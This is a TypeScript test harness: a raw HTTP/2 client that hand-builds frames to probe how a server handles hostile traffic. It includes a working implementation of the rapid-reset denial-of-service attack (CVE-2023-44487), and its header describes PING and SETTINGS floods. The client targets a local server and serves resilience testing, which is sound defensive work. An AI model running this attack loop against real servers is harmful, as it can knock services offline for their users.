// A raw HTTP/2 client for attack tests and bench/hostile: writes frames a well-behaved library never would (rapid resets, streams past the advertised limit, PING and SETTINGS floods) and records what the server answers.
import { connect, type TLSSocket } from 'node:tls';

export const FRAME = {
  DATA: 0,
  HEADERS: 1,
  RST_STREAM: 3,
  SETTINGS: 4,
  PING: 6,
  GOAWAY: 7,
  WINDOW_UPDATE: 8,
  CONTINUATION: 9,
} as const;

const END_STREAM = 0x1;
const ACK = 0x1;
const END_HEADERS = 0x4;

export const ERROR = { NO_ERROR: 0, PROTOCOL_ERROR: 1, REFUSED_STREAM: 7, CANCEL: 8, ENHANCE_YOUR_CALM: 11 } as const;

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');

/** One frame: 9-byte header (RFC 9113, section 4.1) and the payload. */
export function frame(type: number, flags: number, streamId: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header[3] = type;
  header[4] = flags;
  header.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([header, payload]);
}

/** An HPACK integer with an N-bit prefix (RFC 7541, section 5.1); `first` holds the bits above the prefix. */
function hpackInteger(value: number, prefixBits: number, first = 0): number[] {
  const max = (1 << prefixBits) - 1;
  if (value < max) return [first | value];
  const bytes = [first | max];
  let rest = value - max;
  while (rest >= 128) {
    bytes.push((rest % 128) + 128);
    rest = Math.floor(rest / 128);
  }
  bytes.push(rest);
  return bytes;
}

function hpackString(text: string): Buffer {
  const bytes = Buffer.from(text, 'latin1');
  return Buffer.concat([Buffer.from(hpackInteger(bytes.length, 7)), bytes]);
}

/**
 * A header block of literals without indexing and without Huffman coding: no dynamic table state, so every block
 * stands alone (a request can be sent any number of times, on any stream).
 */
export function headerBlock(headers: ReadonlyArray<readonly [string, string]>): Buffer {
  const parts: Buffer[] = [];
  for (const [name, value] of headers) parts.push(Buffer.from([0]), hpackString(name), hpackString(value));
  return Buffer.concat(parts);
}

/** A GET request's header block for `path` on `authority`. */
export function getRequest(
  authority: string,
  path = '/',
  extra: ReadonlyArray<readonly [string, string]> = [],
): Buffer {
  return headerBlock([[':method', 'GET'], [':scheme', 'https'], [':authority', authority], [':path', path], ...extra]);
}

export interface Goaway {
  lastStreamId: number;
  errorCode: number;
}

/** What the server sent, as it arrives. */
export interface Received {
  /** Stream id -> error code of each RST_STREAM. */
  resets: Map<number, number>;
  /** Streams that got a HEADERS frame (a response started). */
  responded: Set<number>;
  /** Streams that ended (END_STREAM on HEADERS or DATA). */
  ended: Set<number>;
  goaway: Goaway | undefined;
  pingAcks: number;
  settingsAcks: number;
  /** The server's SETTINGS (id -> value), from its first SETTINGS frame. */
  settings: Map<number, number>;
  /** The connection is closed (either side). */
  closed: boolean;
}

export interface RawH2 {
  socket: TLSSocket;
  received: Received;
  /** Writes bytes as they are (one or more frames); false when the socket is gone. */
  send(bytes: Buffer): boolean;
  /** Next odd stream id (client streams). */
  nextStreamId(): number;
  /** Resolves once `check` holds (checked on every frame received and on close), or rejects after `ms`. */
  until(check: (received: Received) => boolean, ms?: number): Promise<void>;
  close(): void;
}

/**
 * Opens a TLS connection offering only h2, sends the preface and an empty SETTINGS, ACKs the server's SETTINGS and
 * tops the connection window up as DATA arrives; everything else is up to the caller.
 */
export function rawH2(port: number, ca: string, host = '127.0.0.1', localAddress?: string): Promise<RawH2> {
  return new Promise((resolve, reject) => {
    const socket = connect({
      host,
      port,
      ca,
      servername: 'localhost',
      ALPNProtocols: ['h2'],
      ...(localAddress !== undefined && { localAddress }),
    });
    // Each frame goes out as it is written (an attack loop, or a test waiting for one answer at a time).
    socket.setNoDelay(true);
    const received: Received = {
      resets: new Map(),
      responded: new Set(),
      ended: new Set(),
      goaway: undefined,
      pingAcks: 0,
      settingsAcks: 0,
      settings: new Map(),
      closed: false,
    };
    const waiters = new Set<() => void>();
    const notify = () => {
      for (const waiter of [...waiters]) waiter();
    };
    let buffered: Buffer = Buffer.alloc(0);
    let streamId = 1;
    let sawSettings = false;
    const send = (bytes: Buffer) => {
      if (socket.destroyed || received.closed) return false;
      socket.write(bytes);
      return true;
    };
    socket.on('data', (chunk: Buffer) => {
      buffered = buffered.length === 0 ? chunk : Buffer.concat([buffered, chunk]);
      while (buffered.length >= 9) {
        const length = buffered.readUIntBE(0, 3);
        if (buffered.length < 9 + length) break;
        const type = buffered[3]!;
        const flags = buffered[4]!;
        const id = buffered.readUInt32BE(5) & 0x7fffffff;
        const payload = buffered.subarray(9, 9 + length);
        buffered = buffered.subarray(9 + length);
        if (type === FRAME.SETTINGS) {
          if ((flags & ACK) !== 0) received.settingsAcks++;
          else {
            if (!sawSettings)
              for (let at = 0; at + 6 <= payload.length; at += 6)
                received.settings.set(payload.readUInt16BE(at), payload.readUInt32BE(at + 2));
            sawSettings = true;
            send(frame(FRAME.SETTINGS, ACK, 0));
          }
        } else if (type === FRAME.PING) {
          if ((flags & ACK) !== 0) received.pingAcks++;
          else send(frame(FRAME.PING, ACK, 0, Buffer.from(payload)));
        } else if (type === FRAME.RST_STREAM) received.resets.set(id, payload.readUInt32BE(0));
        else if (type === FRAME.GOAWAY)
          received.goaway = { lastStreamId: payload.readUInt32BE(0) & 0x7fffffff, errorCode: payload.readUInt32BE(4) };
        else if (type === FRAME.HEADERS) {
          received.responded.add(id);
          if ((flags & END_STREAM) !== 0) received.ended.add(id);
        } else if (type === FRAME.DATA) {
          if ((flags & END_STREAM) !== 0) received.ended.add(id);
          if (length > 0) {
            const increment = Buffer.alloc(4);
            increment.writeUInt32BE(length);
            send(frame(FRAME.WINDOW_UPDATE, 0, 0, increment));
          }
        }
      }
      notify();
    });
    const closed = () => {
      received.closed = true;
      notify();
    };
    socket.on('close', closed);
    socket.on('error', closed);
    socket.once('secureConnect', () => {
      if (socket.alpnProtocol !== 'h2') {
        socket.destroy();
        return reject(new Error(`ALPN chose ${String(socket.alpnProtocol)}, not h2`));
      }
      socket.write(Buffer.concat([PREFACE, frame(FRAME.SETTINGS, 0, 0)]));
      resolve({
        socket,
        received,
        send,
        nextStreamId() {
          const id = streamId;
          streamId += 2;
          return id;
        },
        until(check, ms = 5000) {
          if (check(received)) return Promise.resolve();
          return new Promise((done, fail) => {
            const waiter = () => {
              if (!check(received)) return;
              clearTimeout(timer);
              waiters.delete(waiter);
              done();
            };
            const timer = setTimeout(() => {
              waiters.delete(waiter);
              fail(new Error(`condition not met within ${ms} ms: ${describe(received)}`));
            }, ms);
            waiters.add(waiter);
          });
        },
        close() {
          socket.destroy();
        },
      });
    });
    socket.once('error', reject);
  });
}

function describe(received: Received): string {
  return JSON.stringify({
    resets: received.resets.size,
    responded: received.responded.size,
    ended: received.ended.size,
    goaway: received.goaway,
    pingAcks: received.pingAcks,
    settingsAcks: received.settingsAcks,
    closed: received.closed,
  });
}

/** The largest frame payload a peer must accept before its SETTINGS say more (RFC 9113, section 4.2). */
const MAX_FRAME = 16_384;

/** HEADERS (END_STREAM: a GET) on a new stream, then CONTINUATION frames for a block longer than one frame. */
export function headersFrame(streamId: number, block: Buffer): Buffer {
  if (block.length <= MAX_FRAME) return frame(FRAME.HEADERS, END_HEADERS | END_STREAM, streamId, block);
  const frames = [frame(FRAME.HEADERS, END_STREAM, streamId, block.subarray(0, MAX_FRAME))];
  for (let at = MAX_FRAME; at < block.length; at += MAX_FRAME) {
    const last = at + MAX_FRAME >= block.length;
    frames.push(frame(FRAME.CONTINUATION, last ? END_HEADERS : 0, streamId, block.subarray(at, at + MAX_FRAME)));
  }
  return Buffer.concat(frames);
}

/** RST_STREAM with `code` (CANCEL by default, as a browser cancelling a request sends). */
export function rstStream(streamId: number, code: number = ERROR.CANCEL): Buffer {
  const payload = Buffer.alloc(4);
  payload.writeUInt32BE(code);
  return frame(FRAME.RST_STREAM, 0, streamId, payload);
}

export function ping(n = 0): Buffer {
  const payload = Buffer.alloc(8);
  payload.writeUInt32BE(n >>> 0, 4);
  return frame(FRAME.PING, 0, 0, payload);
}

/** A SETTINGS frame with one entry (INITIAL_WINDOW_SIZE = 65535, its default: a no-op the server must ACK). */
export function settingsFrame(): Buffer {
  const payload = Buffer.alloc(6);
  payload.writeUInt16BE(4);
  payload.writeUInt32BE(65535, 2);
  return frame(FRAME.SETTINGS, 0, 0, payload);
}

/**
 * The rapid-reset attack (CVE-2023-44487): `count` streams each opened with a GET and cancelled at once, in batches
 * of `batch` pairs per write. Stops early when the server closes the connection; returns the number sent.
 */
export async function rapidReset(
  client: RawH2,
  authority: string,
  count: number,
  batch = 50,
  path = '/',
): Promise<number> {
  const block = getRequest(authority, path);
  let sent = 0;
  while (sent < count && !client.received.closed && client.received.goaway === undefined) {
    const frames: Buffer[] = [];
    for (let i = 0; i < batch && sent < count; i++, sent++) {
      const id = client.nextStreamId();
      frames.push(headersFrame(id, block), rstStream(id));
    }
    if (!client.send(Buffer.concat(frames))) break;
    // Let the socket drain and the server's answers in, as a real attacker's loop would.
    await new Promise((resolve) => setImmediate(resolve));
  }
  return sent;
}
